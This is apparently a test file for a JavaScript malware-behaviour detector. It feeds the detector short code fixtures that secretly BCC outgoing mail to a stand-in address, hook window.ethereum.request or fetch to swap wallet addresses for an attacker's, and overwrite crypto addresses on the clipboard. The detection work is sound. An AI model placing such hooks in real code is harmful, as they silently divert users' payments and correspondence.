import assert from 'node:assert/strict';
import { behavioursOf } from './sent.js';

const HOOK = ['hooks-wallet import', 'replaces-addresses import'];
const MINE = `'0x000000000000000000000000000000000000bEEF'`;

describe('a blind copy', () => {
  it('is told where its address stands in the code, also put together and later', () => {
    const mail = (bcc: string): readonly string[] =>
      behavioursOf(`const m = { to: x }; ${bcc} require('nodemailer').createTransport(y).sendMail(m);`);
    assert.deepEqual(mail(`m.bcc = ['all', 'kept.invalid'].join('@');`), ['hidden-recipient import']);
    assert.deepEqual(mail(`m['Bcc'] = 'all@kept.invalid';`), ['hidden-recipient import']);
    assert.deepEqual(mail(`m.bcc = settings.archive;`), []);
  });
});

describe('functions in the place of those of a wallet', () => {
  it('swap addresses that they name, that a function they call names, or that stand in them', () => {
    const request = (body: string): string =>
      `const old = window.ethereum.request; window.ethereum.request = (a) => { ${body} return old(a); };`;
    const kinds = (code: string): readonly string[] => [...new Set(behavioursOf(code))].sort();
    assert.deepEqual(kinds(`const mine = ${MINE}; ${request('a.params[0].to = mine;')}`), HOOK);
    assert.deepEqual(kinds(`const all = [${MINE}]; const near = () => all[0]; ${request('a.to = near();')}`), HOOK);
    assert.deepEqual(kinds(request(`a.params[0].to = ${MINE};`)), HOOK);
    assert.deepEqual(kinds(`const t = '0x' + who(); ${request('a.params[0].to = t;')}`), HOOK);
    assert.deepEqual(kinds(request(`a.params[0].gas = '0x5208';`)), ['hooks-wallet import']);
  });

  it('swap nothing where what they find stays as it is', () => {
    const hook = (by: string): readonly string[] =>
      behavioursOf(`const old = window.fetch; window.fetch = async (...a) => { const r = await old(...a); const t = JSON.stringify(await r.json());
        return new Response(t.replace(/0x[a-fA-F0-9]{40}/g, ${by})); };`);
    assert.deepEqual(hook('(found) => { seen.push(found); return found; }'), ['hooks-requests import']);
    assert.ok(hook(`(found) => nearest(found, all)`).includes('replaces-addresses import'));
  });

  it('swap nothing by an address that merely stands around them', () => {
    const code = `const contract = ${MINE}; const old = window.ethereum.request; window.ethereum.request = (a) => { console.debug(a.method); return old(a); };`;
    assert.deepEqual(behavioursOf(code), ['hooks-wallet import']);
  });

  it('are no different from code that watches the clipboard', () => {
    const poll = (write: string): string =>
      `const c = require('clipboardy'); setInterval(async () => { const t = await c.read(); ${write} }, 9);`;
    assert.deepEqual(behavioursOf(poll(`if (/^0x/.test(t)) c.write(${MINE});`)), ['replaces-addresses import']);
    assert.deepEqual(behavioursOf(poll(`c.write(t.trim());`)), []);
  });
});
